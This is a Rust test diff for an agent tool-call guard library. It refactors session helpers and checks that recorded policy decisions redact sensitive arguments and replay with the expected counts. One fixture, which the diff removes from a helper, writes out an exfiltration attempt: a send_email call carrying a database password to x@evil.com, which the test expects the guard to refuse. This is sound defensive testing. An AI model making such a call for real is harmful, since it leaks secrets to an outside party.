@@ -19,11 +19,12 @@ use crate::fixtures::*;
 
 /// Runs a real session on `ledger`: allowed, approved, refused and abandoned calls.
 fn session(ledger: impl Ledger + 'static) {
-    let guard = builder()
-        .ledger(ledger)
-        .approver(approve_as(BOB))
-        .build()
-        .unwrap();
+    session_on(builder().ledger(ledger));
+}
+
+/// [`session`] on a guard of `builder` (its approver is bob).
+fn session_on(builder: agentwarrant::GuardBuilder) {
+    let guard = builder.approver(approve_as(BOB)).build().unwrap();
     let task = guard.begin(ops(), anything()).unwrap();
     task.run(
         ToolCall::new("read_logs", json!({"service": "api"})),
@@ -838,49 +839,37 @@ fn records_read_back_as_typed_values_filtered_by_task_kind_tool_and_time() {
     );
 }
 
-/// The records of a [`session`] on a memory ledger, built by `configure`.
+/// The records of a [`session`] on a memory ledger, its guard built by `configure`.
 fn session_records(
     configure: impl FnOnce(agentwarrant::GuardBuilder) -> agentwarrant::GuardBuilder,
 ) -> Vec<Record> {
     let ledger = Arc::new(MemoryLedger::new());
-    let guard = configure(builder().ledger(ledger.clone()).approver(approve_as(BOB)))
-        .build()
-        .unwrap();
-    let task = guard.begin(ops(), anything()).unwrap();
-    task.run(
-        ToolCall::new("read_secret", json!({"path": "db/main"})),
-        |_| Ok::<_, String>(()),
-    )
-    .unwrap();
-    let refusal = task
-        .authorize(ToolCall::new(
-            "send_email",
-            json!({"to": "x@evil.com", "body": "the db password"}),
-        ))
-        .unwrap_err();
-    assert!(refusal.has(&ReasonCode::Exfiltration));
-    task.end().unwrap();
+    session_on(configure(builder().ledger(ledger.clone())));
     ledger.records()
 }
 
 #[test]
 fn a_decision_keeps_the_policy_input_it_was_made_on_with_sensitive_args_redacted() {
     let records = session_records(|b| b);
-    let decided: Vec<&Record> = records
-        .iter()
-        .filter(|r| r.kind == RecordKind::CallDecided)
-        .collect();
-    assert_eq!(decided.len(), 2);
+    let decided = |tool: &str| {
+        records
+            .iter()
+            .find(|r| r.kind == RecordKind::CallDecided && r.tool.as_deref() == Some(tool))
+            .unwrap()
+    };
     let input = |r: &Record| r.decision.as_ref().unwrap().input.clone().unwrap();
-    let approved = input(decided[0]);
+    let approved = input(decided("read_secret"));
     assert_eq!(approved["version"], "agentwarrant/v1");
     assert_eq!(approved["call"]["tool"], "read_secret");
     assert_eq!(approved["call"]["args"], json!({"path": "db/main"}));
     assert_eq!(approved["identity"]["id"], ops().id());
-    let refused = input(decided[1]);
+    let refused = input(decided("send_email"));
     assert_eq!(refused["chain"]["labels"], json!(["secret"]));
     // The input's args are the record's: the sensitive body is not kept, here either.
-    assert_eq!(refused["call"]["args"], decided[1].args.clone().unwrap());
+    assert_eq!(
+        refused["call"]["args"],
+        decided("send_email").args.clone().unwrap()
+    );
     assert_eq!(refused["call"]["args"]["body"], "[redacted]");
     assert!(!serde_json::to_string(&records)
         .unwrap()
@@ -891,7 +880,7 @@ fn a_decision_keeps_the_policy_input_it_was_made_on_with_sensitive_args_redacted
     let same = agentwarrant::replay::replay(records.clone(), &engine);
     assert_eq!(
         (same.decisions, same.replayed, same.changes.len()),
-        (2, 2, 0)
+        (4, 4, 0)
     );
 }
 
@@ -899,7 +888,7 @@ fn a_decision_keeps_the_policy_input_it_was_made_on_with_sensitive_args_redacted
 fn a_guard_that_records_no_inputs_leaves_replay_nothing_to_replay() {
     let records = session_records(|b| b.record_policy_inputs(false));
     let decided = records.iter().filter(|r| r.kind == RecordKind::CallDecided);
-    assert!(decided.clone().count() == 2);
+    assert_eq!(decided.clone().count(), 4);
     assert!(decided
         .clone()
         .all(|r| r.decision.as_ref().unwrap().input.is_none()));
@@ -907,7 +896,7 @@ fn a_guard_that_records_no_inputs_leaves_replay_nothing_to_replay() {
     let report = agentwarrant::replay::replay(records, &engine);
     assert_eq!(
         (report.decisions, report.replayed, report.without_input),
-        (2, 0, 2)
+        (4, 0, 4)
     );
     assert!(!report.gate_failed());
 }
